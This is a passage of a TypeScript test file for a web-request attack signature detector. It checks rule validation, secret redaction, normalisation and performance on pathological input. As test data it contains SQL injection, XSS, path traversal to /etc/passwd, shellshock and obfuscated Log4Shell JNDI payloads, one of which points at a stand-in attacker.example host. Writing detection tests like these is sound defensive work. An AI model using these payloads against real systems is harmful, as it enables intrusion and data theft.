    assert.equal(hits[0]!.rule.category, 'custom');
    assert.equal(hits[0]!.rule.severity, 'medium');
    assert.equal(hits[0]!.rule.builtin, false);
    assert.equal(hits[0]!.part, 'query');
    assert.equal(hits[0]!.text, 'debug_mode=on');
    assert.deepEqual(s.match(event('POST', '/x', ['content-type', 'application/x-www-form-urlencoded'], 'debug_mode=on')), [], 'only the query');
    const h = s.match(event('GET', '/', ['x-forwarded-for', '10.66.0.1']));
    assert.deepEqual(
      h.map((x) => [x.rule.id, x.part, x.name, x.rule.severity, x.rule.category]),
      [['acme-header', 'header', 'x-forwarded-for', 'high', 'ssrf']],
    );
    assert.equal(s.rules.length, BUILTIN_RULES.length + 2);
  });

  void it('read the query and the body whole, decoded and lower-cased; headers, path and method as they are', () => {
    const s = compileSignatures({ rules: [rule({ id: 'acme-admin', parts: ['query', 'body', 'path', 'method', 'header:*'], pattern: 'role=admin|"role":"admin"|^admin$' })] });
    const one = (e: RequestEvent): string[] => s.match(e).map((h) => `${h.part}:${h.text}`);
    assert.deepEqual(one(event('GET', '/x?a=1&role=%61dmin')), ['query:role=admin']);
    assert.deepEqual(one(event('ADMIN', '/x')), ['method:admin']);
    assert.deepEqual(one(event('GET', '/admin')), [], 'the path keeps its leading slash');
    assert.deepEqual(one(event('GET', '/x', ['referer', 'ADMIN'])), ['header:admin']);
    assert.deepEqual(one(event('POST', '/x', ['content-type', 'application/json'], '{"role":"ADMIN"}')), ['body:"role":"admin"']);
    assert.deepEqual(one(event('POST', '/x', ['content-type', 'application/x-www-form-urlencoded'], 'role=%41dmin')), ['body:role=admin']);
  });

  void it('can replace a disabled built-in rule and turn built-in rules off', () => {
    const s = compileSignatures({ disable: ['method-webdav', 'sqli-union'], rules: [rule({ id: 'sqli-union', parts: ['query'], pattern: 'union\\s+select', severity: 'critical', category: 'sqli' })] });
    assert.deepEqual(s.match(event('PROPFIND', '/')), []);
    const hits = s.match(event('GET', '/?q=1%20union%20select%201'));
    assert.deepEqual(hits.map((h) => [h.rule.id, h.rule.severity, h.rule.builtin]), [['sqli-union', 'critical', false]]);
  });

  void it('fail with the key of the bad field', () => {
    const cases: [Parameters<typeof compileSignatures>[0], string, RegExp][] = [
      [{ rules: [rule(), rule({ id: 'x2', pattern: 'a(?=b)' })] }, 'rules[1].pattern', /invalid regular expression/],
      [{ rules: [rule({ pattern: '(' })] }, 'rules[0].pattern', /invalid regular expression/],
      [{ rules: [rule({ pattern: '' })] }, 'rules[0].pattern', /non-empty/],
      [{ rules: [rule({ parts: ['query', 'cookies'] })] }, 'rules[0].parts[1]', /unknown part "cookies"/],
      [{ rules: [rule({ parts: ['header:bad name'] })] }, 'rules[0].parts[0]', /unknown part/],
      [{ rules: [rule({ parts: [] })] }, 'rules[0].parts', /non-empty list/],
      [{ rules: [rule(), rule({ pattern: 'x' })] }, 'rules[1].id', /duplicate rule id "acme-debug"/],
      [{ rules: [rule({ id: 'sqli-union' })] }, 'rules[0].id', /built-in rule has it/],
      [{ rules: [rule({ id: 'bad id!' })] }, 'rules[0].id', /letters, digits/],
      [{ rules: [rule({ category: 'evil' })] }, 'rules[0].category', /must be one of sqli, xss/],
      [{ rules: [rule({ severity: 'urgent' })] }, 'rules[0].severity', /must be one of info, low/],
      [{ disable: ['sqli-union', 'sqli-nope'] }, 'disable[1]', /not a built-in rule id/],
      [{ maxPartBytes: 12 }, 'maxPartBytes', /256/],
    ];
    for (const [opts, key, message] of cases) {
      const err = thrown(opts);
      assert.equal(err.key, key);
      assert.match(err.message, message);
      assert.ok(err.message.startsWith(`${key}: `), err.message);
      assert.equal(err.index, /^rules\[(\d+)\]/.exec(key)?.[1] !== undefined ? Number(/^rules\[(\d+)\]/.exec(key)![1]) : /\[(\d+)\]$/.test(key) ? Number(/\[(\d+)\]$/.exec(key)![1]) : -1);
    }
  });
});

void describe('signatures: signals', () => {
  void it('carry the rule, the source, a title for people and redacted evidence', () => {
    const e = event('GET', '/search?q=1%20UNION%20SELECT%20password%20FROM%20users&token=s3cr3t', ['user-agent', 'curl/8.7.1', 'authorization', 'Bearer abc']);
    const signals = signalsFor(e, sig.match(e));
    const s = signals.find((x) => x.key.startsWith('rule:sqli-union|'))!;
    assert.equal(s.detector, 'signature');
    assert.equal(s.key, 'rule:sqli-union|source:203.0.113.7');
    assert.equal(s.severity, 'high');
    assert.equal(s.title, 'SQL injection (sqli-union) in query from 203.0.113.7');
    assert.deepEqual(s.detail, { rule: 'sqli-union', category: 'sqli', part: 'query' });
    assert.equal(s.at, e.at);
    assert.deepEqual(s.evidence?.match, { part: 'query', name: 'q', text: 'union select' });
    assert.ok(s.evidence?.target.includes('token=[REDACTED]'));
    assert.ok(!JSON.stringify(s).includes('Bearer abc'));
  });

  void it('never show what matched inside a secret header', () => {
    const e = event('GET', '/', ['authorization', 'Bearer ${jndi:ldap://attacker.example/a}']);
    const [s] = signalsFor(e, sig.match(e));
    assert.equal(s!.title, 'JNDI lookup (jndi-lookup) in header authorization from 203.0.113.7');
    assert.deepEqual(s!.detail, { rule: 'jndi-lookup', category: 'jndi', part: 'header', header: 'authorization' });
    assert.equal(s!.evidence?.match?.text, '[REDACTED]');
    assert.ok(!JSON.stringify(s).includes('attacker.example'));
  });
});

void describe('signatures: bounded work', () => {
  const jsonCt = ['content-type', 'application/json'];

  void it('reads only the first maxPartBytes of a 1 MB body', () => {
    const filler = 'a'.repeat(1 << 20);
    const late = event('POST', '/x', ['content-type', 'text/plain'], `${filler.slice(0, 10_000)} <script>alert(1)</script> ${filler}`);
    const early = event('POST', '/x', ['content-type', 'text/plain'], `<script>alert(1)</script> ${filler}`);
    const start = performance.now();
    assert.deepEqual(sig.match(late), []);
    assert.deepEqual(sig.match(early).map((h) => h.rule.id), ['xss-script-tag']);
    assert.ok(performance.now() - start < 2000);
    const wide = compileSignatures({ maxPartBytes: 16_384 });
    assert.deepEqual(wide.match(late).map((h) => h.rule.id), ['xss-script-tag']);
  });

  void it('ends quickly on pathological input', (t) => {
    const n = 100_000;
    const inputs: [string, RequestEvent][] = [
      ['quotes', event('GET', `/x?q=${"'".repeat(n)}`)],
      ['encoded quotes', event('GET', `/x?q=${'%27'.repeat(n)}`)],
      ['percent signs', event('GET', `/x?q=${'%'.repeat(n)}`)],
      ['%25 chains', event('GET', `/x?q=${'%25'.repeat(n)}`)],
      ['overlong bytes', event('GET', `/x?q=${'%c0'.repeat(n)}`)],
      ['%u escapes', event('GET', `/x?q=${'%u0027'.repeat(n)}`)],
      ['ampersands', event('GET', `/x?${'&'.repeat(n)}`)],
      ['entities', event('GET', `/x?q=${'%26%2339'.repeat(n)}`)],
      ['lookups', event('GET', '/', ['user-agent', '${'.repeat(n)])],
      ['closed lookups', event('GET', '/', ['user-agent', '${a}'.repeat(n)])],
      ['nested lookups', event('GET', '/', ['user-agent', `${'${'.repeat(5000)}jndi${'}'.repeat(5000)}`])],
      ['comments', event('GET', `/x?q=${'/*'.repeat(n)}`)],
      ['open comments', event('GET', `/x?q=${'/*!'.repeat(n)}`)],
      ['backslashes', event('POST', '/x', jsonCt, `{"a":"${'\\'.repeat(n)}`)],
      ['json quotes', event('POST', '/x', jsonCt, '"'.repeat(n))],
      ['json escapes', event('POST', '/x', jsonCt, `["${'\\"'.repeat(n)}"]`)],
      ['deep json', event('GET', `/x?f=${'['.repeat(5000)}${']'.repeat(5000)}`)],
      ['tags', event('GET', `/x?q=${'<a '.repeat(n)}`)],
      ['dots', event('GET', `/${'../'.repeat(n)}`)],
      ['separators', event('GET', `/x?q=${encodeURIComponent(';|'.repeat(n))}`)],
      ['multipart', event('POST', '/x', ['content-type', 'multipart/form-data; boundary=b'], '--b\r\n'.repeat(n))],
      ['unicode', event('GET', `/x?q=${encodeURIComponent('ﷺ'.repeat(n))}`)],
      ['attack everywhere', event('POST', `/${"' or 1=1 <script> ../../../ ;id ${jndi:x}".repeat(400)}?${"q=' union select 1--&".repeat(400)}`, ['user-agent', "sqlmap ${jndi:x} () { :; }; ' or 1=1", 'referer', '<script>'.repeat(1000), 'content-type', 'text/plain'], "' or 1=1 <script> ../../../ ;id ${jndi:x} ".repeat(1000))],
    ];
    let worst = 0;
    let worstName = '';
    for (const [name, e] of inputs) {
      const start = performance.now();
      sig.match(e);
      const ms = performance.now() - start;
      if (ms > worst) [worst, worstName] = [ms, name];
      assert.ok(ms < 5000, `${name} took ${ms.toFixed(0)} ms`);
    }
    t.diagnostic(`slowest pathological input: ${worstName}, ${worst.toFixed(1)} ms`);
  });

  void it('reports at most one hit per rule per request', () => {
    const e = event('GET', `/x?a=${encodeURIComponent('<script>')}&b=${encodeURIComponent('<script>')}`, ['referer', '<script>']);
    assert.deepEqual(sig.match(e).map((h) => h.rule.id), ['xss-script-tag']);
  });
});

void describe('normalize', () => {
  void it('percent-decodes leniently and repeatedly, at most three times', () => {
    assert.equal(urlDecode('%2527', false), "'");
    assert.equal(urlDecode('%252527', false), "'");
    assert.equal(urlDecode('%25252527', false), '%27');
    assert.equal(urlDecode('a+b%2Bc', true), 'a b+c');
    assert.equal(urlDecode('a+b', false), 'a+b');
    assert.equal(percentDecodeOnce('..%c0%af..%c0%ae'), '../...');
    assert.equal(percentDecodeOnce('%u003cscript%u003e'), '<script>');
    assert.equal(percentDecodeOnce('100% sure %zz %'), '100% sure %zz %');
    assert.equal(percentDecodeOnce('caf%C3%A9 %E2%9C%93'), 'café ✓');
    assert.equal(percentDecodeOnce('%ff%41'), 'ÿA');
  });

  void it('decodes entities but keeps < and > escaped', () => {
    assert.equal(decodeEntities('O&#39;Brien &amp; &quot;x&quot; &#x27;y&#x27; javascript&colon;'), 'O\'Brien & "x" \'y\' javascript:');
    assert.equal(decodeEntities('&lt;script&gt; &#60;b&#62; &#x3c;'), '&lt;script&gt; &#60;b&#62; &#x3c;');
    assert.equal(decodeEntities('&amp;#39; AT&T &unknown;'), "' AT&T &unknown;");
  });

  void it('folds Unicode, drops NUL and lower-cases', () => {
    assert.equal(normalize('%EF%BC%9CScRiPt%00%EF%BC%9E', { url: true, plus: false, max: 100 }), '<script>');
    assert.equal(normalize('a\u2215b\u2216c it\u2019s', { url: false, plus: false, max: 100 }), "a/b\\c it's");
    assert.equal(normalize('x'.repeat(50), { url: false, plus: false, max: 10 }), 'x'.repeat(10));
  });

  void it('builds the views rules read', () => {
    assert.equal(stdView('..\\..\\windows/./win.ini'), '../../windows/win.ini');
    assert.equal(sqlView('union/**/select/*x*/1'), 'union select 1');
    assert.equal(sqlView('/*!50000union*/ /*!select*/'), ' union   select ');
    assert.equal(sqlView("admin'/* unclosed"), "admin'/* unclosed");
    assert.equal(shellView(`w'h'o\\am"i"$@`), 'whoami');
    assert.equal(lookupView('${${lower:j}ndi:${lower:l}dap://x}'), '${jndi:ldap://x}');
    assert.equal(lookupView('${${::-j}${::-n}${::-d}${::-i}:rmi://x}'), '${jndi:rmi://x}');
    assert.equal(lookupView("${${env:x:-j}ndi${date:'_'}}"), '${jndi_}');
    assert.equal(lookupView('${jndi:ldap://a:-b}'), '${jndi:ldap://a:-b}');
    assert.equal(lookupView('${user.name} ${a}'), '${user.name} ${a}');
  });
});

void describe('built-in rules', () => {
  void it('have unique ids, known categories, lower-case patterns that compile, and a reference', () => {
    const ids = new Set<string>();
    for (const r of BUILTIN_RULES) {
      assert.ok(!ids.has(r.id), `duplicate ${r.id}`);
      ids.add(r.id);
      assert.match(r.id, /^[a-z]+(?:-[a-z0-9]+)+$/);
      assert.ok(r.id.startsWith(`${r.category}-`), `${r.id} starts with its category`);
      assert.ok(CATEGORIES.includes(r.category));
      assert.doesNotMatch(r.pattern.replace(/\\./g, ''), /[A-Z]/, `${r.id}: the text is lower-cased, so the pattern must be`);
      assert.ok(r.reference.length > 0 && r.description.length > 0);
      assert.ok(r.category === 'method' || r.needles.length > 0, `${r.id} has needles`);
      const literals = r.needles.flatMap((n) => (typeof n === 'string' ? [n] : n.all.flatMap((x) => (typeof x === 'string' ? [x] : [...x]))));
      for (const l of literals) assert.equal(l, l.toLowerCase(), `${r.id}: needle ${l}`);
    }
    assert.ok(BUILTIN_RULES.length >= 25 && BUILTIN_RULES.length <= 50);
  });

  void it('are all documented in docs/signatures.md', () => {
    const doc = readFileSync(new URL('../docs/signatures.md', import.meta.url), 'utf8');
    for (const r of BUILTIN_RULES) assert.ok(doc.includes(`\`${r.id}\``), `docs/signatures.md lacks ${r.id}`);
  });
});

void describe('signatures: clean-part memory', () => {
  const ids = (hits: readonly Hit[]): string[] => hits.map((h) => `${h.part}:${h.rule.id}`).sort();

  void it('finds the same attack on every repetition, and a clean part seen before stays checked in a new combination', () => {
    const sig = compileSignatures();
    const attack = event('GET', `/items?id=${encodeURIComponent("1' OR '1'='1")}`);
    const first = ids(sig.match(attack));
    assert.ok(first.some((h) => h.startsWith('query:sqli-')), first.join());
    for (let i = 0; i < 5; i++) assert.deepEqual(ids(sig.match(attack)), first);
    // clean parts are remembered; the attack in the query is still found with a path and headers already seen clean
    const benign = event('GET', '/items?id=42', ['user-agent', 'Mozilla/5.0']);
    assert.deepEqual(sig.match(benign), []);
    assert.deepEqual(sig.match(benign), []);
    const mixed = event('GET', `/items?id=${encodeURIComponent("1' OR '1'='1")}`, ['user-agent', 'Mozilla/5.0']);
    assert.deepEqual(ids(sig.match(mixed)), first);
  });

  void it('never remembers a part as clean when a rule was skipped because an earlier part hit it', () => {
    const sig = compileSignatures();
    // the path hits traversal-sensitive-file first; the query's only match (the same rule) is skipped as done
    const both = ids(sig.match(event('GET', '/static/..%2f..%2fetc%2fpasswd?file=/etc/passwd')));
    assert.ok(both.includes('path:traversal-sensitive-file') && !both.some((h) => h.startsWith('query:')), both.join());
    // the same query under a clean path must still be found in the query
    assert.deepEqual(ids(sig.match(event('GET', '/static/a.css?file=/etc/passwd'))), ['query:traversal-sensitive-file']);
  });

  void it('stays bounded and correct past its capacity', () => {
    const sig = compileSignatures();
    for (let i = 0; i < 10_000; i++) assert.deepEqual(sig.match(event('GET', `/p/${i}?q=${i}`, ['user-agent', `agent-${i}`])), []);
    assert.ok(sig.match(event('GET', '/p/1?q=<script>alert(1)</script>')).length > 0);
  });
});
